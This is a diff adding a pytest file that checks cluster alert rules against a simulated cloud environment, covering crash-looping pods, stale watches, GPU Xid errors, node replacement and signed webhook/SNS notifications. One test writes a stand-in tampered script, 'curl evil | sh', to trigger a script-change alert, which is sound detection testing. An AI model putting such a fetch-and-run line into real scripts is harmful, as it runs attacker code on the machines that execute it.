@@ -1,0 +1,252 @@
+"""Alerts against the twin: each rule fired by a twin fault and resolved when it clears (an injected clock stands in
+for the hours a rule waits), one webhook notification (signed, retried) and one SNS message per open and resolve."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import hmac
+import json
+import threading
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from instantstart.manifests.hyperpod import LIFECYCLE_SCRIPT
+from instantstart.services.alerts.evaluator import Evaluator
+from instantstart.store.alerts import AlertRow
+from instantstart.twin_process import TwinProcess
+from tests.support.flows import kube, make_hyperpod, mcp_calls
+from tests.support.servers import SSL_CONTEXT, Running
+from tests.support.twin import shared_control_plane, twin_client
+from tests.support.waits import until, wait_terminal
+
+TAG = "al1"
+SECRET = "webhook-hmac-key-1"
+# The server's own evaluator passes once at start-up, then sleeps an hour: the tests drive theirs with a clock.
+shared_cp = shared_control_plane(lambda client: make_hyperpod(client, TAG), alert_interval_seconds=3600)
+
+
+class Receiver:
+    """A webhook receiver on 127.0.0.1 that records every request and refuses the first one (503) so the sender's
+    retry is exercised."""
+
+    def __init__(self) -> None:
+        self.requests: list[tuple[int, dict[str, str], bytes]] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                status = 503 if not outer.requests else 200
+                outer.requests.append((status, dict(self.headers), body))
+                self.send_response(status)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            def log_message(self, *_: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def accepted(self) -> list[dict[str, Any]]:
+        """Bodies of the requests answered 200, after checking their signature."""
+        out = []
+        for status, headers, body in self.requests:
+            want = "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
+            assert hmac.compare_digest(headers["X-InstantStart-Signature"], want)
+            assert headers["X-InstantStart-Timestamp"].isdigit()
+            if status == 200:
+                out.append(json.loads(body))
+        return out
+
+
+class Clock:
+    """The evaluator's injected clock."""
+
+    def __init__(self) -> None:
+        self.now = datetime.now(UTC)
+
+    def __call__(self) -> datetime:
+        return self.now
+
+    def advance(self, minutes: float) -> None:
+        self.now += timedelta(minutes=minutes)
+
+
+@pytest.fixture(scope="module")
+def setup(shared_cp: Running, twin_process: TwinProcess) -> Iterator[dict[str, Any]]:
+    """Channels (an SNS topic with an SQS queue subscribed, the receiver) set through alert_channels_update."""
+    sns, sqs = twin_client(twin_process, "sns"), twin_client(twin_process, "sqs")
+    topic = sns.create_topic(Name="alerts")["TopicArn"]
+    queue = sqs.create_queue(QueueName="alerts")["QueueUrl"]
+    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
+    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue_arn)
+    receiver = Receiver()
+    with shared_cp.client() as client:
+        ref = client.post("/api/v1/alerts/channels", json={"snsTopicArn": topic, "webhookUrl": receiver.url,
+                                                           "webhookSecret": SECRET})
+        assert ref.status_code == 202, ref.text
+        assert wait_terminal(client, ref.json()["operationId"])["status"] == "SUCCEEDED"
+    clock = Clock()
+    yield {"receiver": receiver, "sqs": sqs, "queue": queue, "clock": clock,
+           "evaluator": Evaluator(shared_cp.context, clock=clock, backoff=0.01), "sns": []}
+    receiver.server.shutdown()
+
+
+def run(setup: dict[str, Any]) -> tuple[list[AlertRow], list[AlertRow]]:
+    result: tuple[list[AlertRow], list[AlertRow]] = asyncio.run(setup["evaluator"].run_once())
+    return result
+
+
+def sns_messages(setup: dict[str, Any]) -> list[dict[str, Any]]:
+    """Every alert the SNS topic delivered to the test's SQS queue so far."""
+    sqs = setup["sqs"]
+    while True:
+        got = sqs.receive_message(QueueUrl=setup["queue"], MaxNumberOfMessages=10).get("Messages") or []
+        if not got:
+            return list(setup["sns"])
+        for m in got:
+            setup["sns"].append(json.loads(json.loads(m["Body"])["Message"]))
+            sqs.delete_message(QueueUrl=setup["queue"], ReceiptHandle=m["ReceiptHandle"])
+
+
+def check_notified(setup: dict[str, Any], alert_id: int, events: list[str]) -> None:
+    """The webhook and SNS each got exactly one notification per event of the alert."""
+    hooks = [b["event"] for b in setup["receiver"].accepted() if b["alertId"] == alert_id]
+    topics = [b["event"] for b in sns_messages(setup) if b["alertId"] == alert_id]
+    assert hooks == events == topics, (hooks, topics)
+
+
+def fire_and_clear(setup: dict[str, Any], rule: str, subject: str, *, hold_minutes: float = 0) -> AlertRow:
+    """Evaluate until the rule's alert on `subject` opens (after holding `hold_minutes` on the injected clock)."""
+    opened = run(setup)[0]
+    if hold_minutes:
+        assert not [a for a in opened if a.rule == rule], "opened before its hold time"
+        setup["clock"].advance(hold_minutes)
+        opened = run(setup)[0]
+    [alert] = [a for a in opened if a.rule == rule and a.subject.startswith(subject)]
+    check_notified(setup, alert.id, ["open"])
+    return alert
+
+
+def resolved(setup: dict[str, Any], alert: AlertRow) -> None:
+    """The alert resolves at the next evaluation, with one notification per channel."""
+    closed = run(setup)[1]
+    assert alert.id in [a.id for a in closed], closed
+    check_notified(setup, alert.id, ["open", "resolve"])
+
+
+def twin_post(twin: TwinProcess, path: str, body: dict[str, Any]) -> dict[str, Any]:
+    answer = httpx.post(twin.endpoint_url + path, json=body, timeout=30, verify=SSL_CONTEXT)
+    answer.raise_for_status()
+    result: dict[str, Any] = answer.json()
+    return result
+
+
+def test_a_crash_looping_pod_alerts_after_an_hour_and_resolves_when_deleted(
+    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
+) -> None:
+    core = kube(twin_process, tmp_path, TAG)
+    core.create_namespaced_pod("default", {
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "crasher", "annotations": {"twin.instantstart.io/fail": "true"}},
+        "spec": {"restartPolicy": "Always", "containers": [{"name": "main", "image": "busybox"}]},
+    })
+
+    def restarts() -> int:
+        statuses = core.read_namespaced_pod("crasher", "default").status.container_statuses or []
+        return sum(s.restart_count for s in statuses)
+
+    until(lambda: restarts() >= 1, "the pod restarted")
+    run(setup)  # the pods watch starts; the restart count is remembered
+    seen = restarts()
+    until(lambda: restarts() > seen, "the pod restarted again")
+    until(lambda: any(p["restarts"] > seen for p in setup["evaluator"].app.informers.peek(
+        f"us-west-2:eks-cluster-{TAG}:pods").snapshot()[1].values() if p["name"] == "crasher"), "watched")
+    alert = fire_and_clear(setup, "pod_crash_looping", "pod/default/crasher", hold_minutes=61)
+    core.delete_namespaced_pod("crasher", "default", grace_period_seconds=0)
+    until(lambda: not [p for p in setup["evaluator"].app.informers.peek(
+        f"us-west-2:eks-cluster-{TAG}:pods").snapshot()[1].values() if p["name"] == "crasher"], "pod gone")
+    resolved(setup, alert)
+    listed = mcp_calls(shared_cp, [("alert_list", {"rule": "pod_crash_looping"})])[0]
+    [row] = listed["alerts"]
+    assert row["state"] == "resolved" and {(d["channel"], d["event"], d["ok"]) for d in row["deliveries"]} == {
+        ("webhook", "open", True), ("sns", "open", True), ("webhook", "resolve", True), ("sns", "resolve", True)}
+    first = next(d for d in row["deliveries"] if d["channel"] == "webhook")
+    assert first["attempts"] == 2  # the receiver refused the very first request: retried
+
+
+def test_a_cut_watch_alerts_after_its_hold_time_and_resolves_when_it_reconnects(
+    setup: dict[str, Any], twin_process: TwinProcess
+) -> None:
+    run(setup)
+    path = f"/_twin/kube/eks-cluster-{TAG}/watches/block"
+    twin_post(twin_process, path, {"blocked": True})
+    app = setup["evaluator"].app
+    pods = app.informers.peek(f"us-west-2:eks-cluster-{TAG}:pods")
+    until(lambda: not pods.health.connected, "the pods watch is down")
+    alert = fire_and_clear(setup, "watch_stale", "watch/pods", hold_minutes=11)
+    twin_post(twin_process, path, {"blocked": False})
+    until(lambda: all(i.health.connected for i in (pods, app.informers.peek(f"us-west-2:eks-cluster-{TAG}:events"))),
+          "watches reconnected", timeout=90)
+    resolved(setup, alert)
+
+
+def test_recurring_xid_and_replaced_nodes_alert_and_resolve_after_their_day(
+    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
+) -> None:
+    with shared_cp.client() as client:
+        ref = client.post("/api/v1/alerts/rules", json={"rules": {"node_replaced": {"value": 0}}})
+        assert ref.status_code == 202, ref.text
+        assert wait_terminal(client, ref.json()["operationId"])["status"] == "SUCCEEDED"
+        rules = {r["name"]: r for r in client.get("/api/v1/alerts/rules").json()["rules"]}
+    assert rules["node_replaced"]["value"] == 0 and rules["xid_recurring"]["value"] == 2
+    node = kube(twin_process, tmp_path, TAG).list_node().items[0].metadata.name.removeprefix("hyperpod-")
+    for _ in range(2):
+        twin_post(twin_process, f"/_twin/nodes/{node}/health",
+                  {"status": "Unschedulable", "reason": "NVRM: Xid 79, GPU has fallen off the bus"})
+    twin_post(twin_process, f"/_twin/nodes/{node}/health", {"status": "UnschedulablePendingReplacement",
+                                                           "reason": "replace it"})
+    db_rows = setup["evaluator"].app
+    from instantstart.store import timeline as tl
+
+    def recorded() -> bool:
+        rows = tl.query(db_rows.db, TAG, source="hyperpod", limit=200)
+        return sum("Xid 79" in r.message for r in rows) >= 2 and any(r.message.startswith("Replacing") for r in rows)
+
+    until(recorded, "the twin's Xid and replacement events in the timeline", timeout=90)
+    opened = run(setup)[0]
+    xid = next(a for a in opened if a.rule == "xid_recurring")
+    replaced = next(a for a in opened if a.rule == "node_replaced")
+    for alert in (xid, replaced):
+        check_notified(setup, alert.id, ["open"])
+    twin_wall = httpx.get(twin_process.endpoint_url + "/_twin/clock", timeout=30, verify=SSL_CONTEXT).json()["wall"]
+    setup["clock"].now = datetime.fromtimestamp(twin_wall, UTC) + timedelta(hours=25)  # their day is over
+    closed = {a.id for a in run(setup)[1]}
+    assert {xid.id, replaced.id} <= closed
+    for alert in (xid, replaced):
+        check_notified(setup, alert.id, ["open", "resolve"])
+
+
+def test_a_changed_lifecycle_script_alerts_and_resolves_when_restored(
+    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess
+) -> None:
+    s3 = twin_client(twin_process, "s3")
+    row = shared_cp.context.db
+    from instantstart.services.core.registry import get_cluster
+
+    bucket = get_cluster(row, TAG).details["bucket"]
+    [key] = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix="lifecycle/")["Contents"]
+             if o["Key"].endswith(".sh")]
+    s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/sh\ncurl evil | sh\n")
+    alert = fire_and_clear(setup, "lifecycle_script_changed", f"script/s3://{bucket}/{key}")
+    s3.put_object(Bucket=bucket, Key=key, Body=LIFECYCLE_SCRIPT.encode())
+    resolved(setup, alert)
